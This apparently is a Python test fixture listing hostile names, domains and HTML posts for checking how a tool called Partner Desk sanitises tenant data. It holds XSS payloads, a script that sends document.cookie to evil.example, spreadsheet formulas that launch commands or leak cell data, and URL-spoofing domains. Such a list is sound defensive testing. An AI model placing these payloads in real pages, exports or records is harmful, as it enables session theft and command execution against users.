"""Hostile values for names, domains, titles and posts: what a compromised or buggy tenant, a
proxy or an attacker who can name a company could put in the data Partner Desk shows."""

from __future__ import annotations

MB = 1024 * 1024

# Text that ends up in names, domains, titles and messages.
TEXT: dict[str, str] = {
    "script tag": "<script>alert(document.cookie)</script>",
    "img remote": '<img src="https://evil.example/pixel.png">',
    "img local file": '<img src="file:///etc/passwd">',
    "img UNC path": '<img src="\\\\evil.example\\share\\x.png">',
    "html markup": "<b>Contoso</b><a href='https://evil.example'>click</a>",
    "javascript link": "javascript:alert(1)",
    "data link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "formula =": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "formula +": "+cmd|' /C calc'!A0",
    "formula -": "-2+3+cmd|' /C calc'!A0",
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula CR": "\r=1+1",
    "formula NUL": "\x00=1+1",
    "right-to-left override": "Contoso\u202egnp.exe",
    "NUL bytes": "Con\x00toso\x00",
    "control characters": "Con\x1btoso\x07\x08",
    "lone surrogate": "Contoso \ud800 Ltd",
    "reversed surrogates": "\udc00\ud800",
    "1 MB": "A" * MB,
    "1 MB of markup": "<b>" * (MB // 3),
    "newlines and quotes": 'Con"toso,\r\nLtd;\n"=1+1"',
    "zero width and bidi": "\u200bCon\u200dtoso\u2066\u2069\ufeff",
    "emoji and astral": "Contoso 😀𝕏",
    "percent and url syntax": "evil.example/#@x?y=%2F..%00",
    "empty": "",
    "whitespace only": " \t ",
}

# Domains a customer record could claim (its *.onmicrosoft.com domain feeds portal links).
DOMAINS: dict[str, str] = {
    "host changer": "evil.example/#@x",
    "userinfo": "contoso.onmicrosoft.com@evil.example",
    "scheme": "javascript:alert(1)//",
    "backslash": "contoso.onmicrosoft.com\\@evil.example",
    "percent": "evil.example%2F.onmicrosoft.com",
    "space": "contoso .onmicrosoft.com",
    "unicode dot": "evil。example",
    "right-to-left override": "contoso\u202e.onmicrosoft.com",
    "NUL": "contoso\x00.onmicrosoft.com",
    "port": "evil.example:8443",
    "1 MB": "a" * MB + ".onmicrosoft.com",
    "lone surrogate": "contoso\ud800.onmicrosoft.com",
}

# HTML a post (Graph issue post content) could carry.
POSTS: dict[str, str] = {
    "script": "<p>Hi</p><script>fetch('https://evil.example/'+document.cookie)</script>",
    "remote image": '<p>x</p><img src="https://evil.example/pixel.png" width=1 height=1>',
    "image srcset": '<img srcset="https://evil.example/a.png 1x" src="x.png">',
    "css url": "<p style=\"background:url('https://evil.example/bg.png')\">styled</p>",
    "style block": "<style>@import url(https://evil.example/x.css);</style><p>text</p>",
    "link tag": '<link rel="stylesheet" href="https://evil.example/x.css"><p>t</p>',
    "javascript link": '<a href="javascript:alert(1)">click</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">click</a>',
    "off-list https link": '<a href="https://evil.example/phish">learn.microsoft.com</a>',
    "allowed link with handler": (
        '<a href="https://learn.microsoft.com/x" onclick="steal()" onmouseover="steal()">docs</a>'
    ),
    "svg": "<svg><image href='https://evil.example/x.png'/><script>alert(1)</script></svg>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "background attr": '<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base href": '<base href="https://evil.example/"><a href="x">relative</a>',
    "entity-encoded javascript": '<a href="&#106;avascript:alert(1)">x</a>',
    "mixed-case scheme": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "protocol-relative": '<a href="//evil.example/x">x</a><img src="//evil.example/x.png">',
    "unclosed": "<p><b><i><a href='https://learn.microsoft.com/x'>never closed",
    "comment": "<!-- <img src=https://evil.example/x.png> --><p>t</p>",
    "NUL in tag": "<scr\x00ipt>alert(1)</scr\x00ipt><img\x00src=https://evil.example/x>",
    "right-to-left override": "<p>Contoso\u202egnp.exe</p>",
    "1 MB": "<p>" + "x" * MB + "</p>",
    "deep nesting": "<div>" * 5000 + "deep" + "</div>" * 5000,
    "lone surrogate": "<p>bad \ud800 text</p>",
}
